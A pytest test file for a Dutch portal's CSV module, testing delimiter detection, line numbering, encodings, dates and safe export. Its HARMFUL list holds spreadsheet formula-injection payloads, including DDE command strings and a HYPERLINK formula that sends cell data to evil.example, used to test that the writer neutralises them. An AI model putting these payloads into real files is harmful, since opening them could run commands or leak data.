"""Reading what comes from a spreadsheet, and writing what does no harm in one."""

import csv
import io
import re
from datetime import date

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gemportal.kernel import csv_files
from gemportal.kernel.csv_files import Column
from gemportal.kernel.errors import RuleBroken

COLUMNS = (Column("code"), Column("besluit", ("grond",)), Column("e-mailadres", needed=False))

# What spreadsheets take for a formula, a command or an address to fetch; and ways to smuggle one past a careless guard.
HARMFUL = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"klik")',
    '";=1+1;"',
    '","=1+1',
    "x;=1+1",
    "x\r\n=1+1",
    "'=1+1",
    "''=1+1",
    "-2+3+cmd|' /C calc'!A0",
)


def sentences(text: str) -> list[tuple[int, str]]:
    return [(fault.number, " ".join(map(str, fault.sentences))) for fault in csv_files.read(text, COLUMNS).faults]


@pytest.mark.parametrize("separator", [";", ",", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_fields_are_parted_by_whatever_the_heading_uses(separator: str, end: str) -> None:
    lines = (separator.join(fields) for fields in (("Code", "BESLUIT"), ("GM0193", "a b"), ("", ""), ("GM0166", "c")))
    sheet = csv_files.read(end.join(lines), COLUMNS)
    assert [(line.number, *line.cells.values()) for line in sheet.lines] == [
        (2, "GM0193", "a b", ""),
        (4, "GM0166", "c", ""),
    ]
    assert not sheet.faults


def test_a_line_is_numbered_as_in_the_file_also_behind_a_field_of_several_lines() -> None:
    sheet = csv_files.read('\n\ncode;besluit\n"GM0193";"een\nbesluit"\n\nGM0166;twee', COLUMNS)
    assert [(line.number, line.cells["besluit"]) for line in sheet.lines] == [(4, "een besluit"), (7, "twee")]


@pytest.mark.parametrize("title", ["E-mailadres", " e mailadres ", "E_MAILADRES"])
def test_titles_are_recognised_however_they_are_written(title: str) -> None:
    sheet = csv_files.read(f"grond;code;{title};kleur\nx;GM0193;a@b.nl;rood", COLUMNS)
    assert dict(sheet.lines[0].cells) == {"code": "GM0193", "besluit": "x", "e-mailadres": "a@b.nl"}
    assert sheet.unused == ("kleur",)


@pytest.mark.parametrize(
    ("text", "number", "sentence"),
    [
        ("", 1, "Er staat niets in."),
        ("\n \n", 1, "Er staat niets in."),
        ("code;besluit", 1, "geen enkele regel"),
        ("\ncode\nGM0193", 2, "De kolom “besluit” ontbreekt"),
        ("code;code;besluit\n1;2;3", 1, "staat er 2 keer"),
        ("code;besluit\nGM0193;a;b;c", 2, "meer velden dan kolommen"),
        ("code;besluit\n" + "GM0193;x\n" * (csv_files.MOST_LINES + 1), csv_files.MOST_LINES + 2, "te veel"),
        ("x" * (csv_files.MOST_CHARACTERS + 1), 1, "te lang"),
    ],
)
def test_what_is_wrong_with_a_file_is_told_with_its_line(text: str, number: int, sentence: str) -> None:
    ((found, told),) = sentences(text)
    assert found == number
    assert sentence in told


@given(st.text(alphabet=st.characters(codec="utf-8")) | st.text(alphabet=";,\t\"\n\r' =@codebesluit"))
@example('"')
@example('code;besluit\n"')
@example('code;besluit\n"' + "x" * 90_000)
def test_reading_never_raises_and_numbers_lines_that_are_there(text: str) -> None:
    sheet = csv_files.read(text, COLUMNS)
    count = len(csv_files.normal(text).split("\n"))
    numbers = [line.number for line in sheet.lines] + [fault.number for fault in sheet.faults]
    assert all(1 <= number <= count for number in numbers)
    assert [line.number for line in sheet.lines] == sorted({line.number for line in sheet.lines})


@given(st.binary())
def test_a_file_is_a_text_or_refused_with_a_sentence(content: bytes) -> None:
    if b"\0" in content:
        with pytest.raises(RuleBroken, match="CSV"):
            csv_files.text_of(content)
    else:
        csv_files.read(csv_files.text_of(content), COLUMNS)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
def test_a_file_from_any_excel_is_read(encoding: str) -> None:
    assert csv_files.text_of("Súdwest-Fryslân; € 5\r\n".encode(encoding)) == "Súdwest-Fryslân; € 5\n"


@pytest.mark.parametrize("content", [b"PK\x03\x04\x14\x00\x06\x00", "naam\n".encode("utf-16")])
def test_what_is_no_csv_is_told_what_to_do(content: bytes) -> None:
    with pytest.raises(RuleBroken, match="opslaan als CSV"):
        csv_files.text_of(content)


@pytest.mark.parametrize("text", ["2026-11-25", "25-11-2026", "25/11/2026"])
def test_a_day_is_written_in_two_ways(text: str) -> None:
    assert csv_files.day(text) == date(2026, 11, 25)
    assert csv_files.day("1-2-2027") == date(2027, 2, 1)


@pytest.mark.parametrize("text", ["", "morgen", "31-02-2026", "25-11-26", "2026-13-01", "٢٥-11-2026", "0-0-0000"])
def test_what_is_no_day_is_told_how_to_write_one(text: str) -> None:
    with pytest.raises(RuleBroken, match="Schrijf een datum als"):
        csv_files.day(text)


def cells_as_opened(content: bytes, separator: str) -> list[str]:
    """The cells as a spreadsheet with this separator sees them."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("harmful", HARMFUL)
@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_abuse_35_no_cell_starts_a_formula_whatever_opens_the_file(harmful: str, separator: str) -> None:
    content = csv_files.write(["naam", "besluit"], [[harmful, "x"], ["x", harmful]])
    for cell in cells_as_opened(content, separator):
        assert not re.match(r"[\t\r\n]|\s*[=+\-@＝＋－＠]", cell), cell


@given(
    st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=30), min_size=2, max_size=2), max_size=5)
)
@example([[text, text] for text in HARMFUL])
@example([["'s-Hertogenbosch", "’s-Gravenhage"], ['"', ";"]])
def test_what_is_written_is_read_again(rows: list[list[str]]) -> None:
    sheet = csv_files.read(csv_files.text_of(csv_files.write(["code", "besluit"], rows).replace(b"\0", b"")), COLUMNS)
    plain = [[" ".join(cell.replace("\0", "").split()) for cell in row] for row in rows]
    assert [list(line.cells.values())[:2] for line in sheet.lines] == [row for row in plain if any(row)]


def test_nothing_and_days_are_written_plainly() -> None:
    content = csv_files.write(["a", "b", "c"], [[None, date(2026, 11, 25), 342]])
    assert content.decode() == '\ufeff"a";"b";"c"\r\n"";"2026-11-25";"342"\r\n'
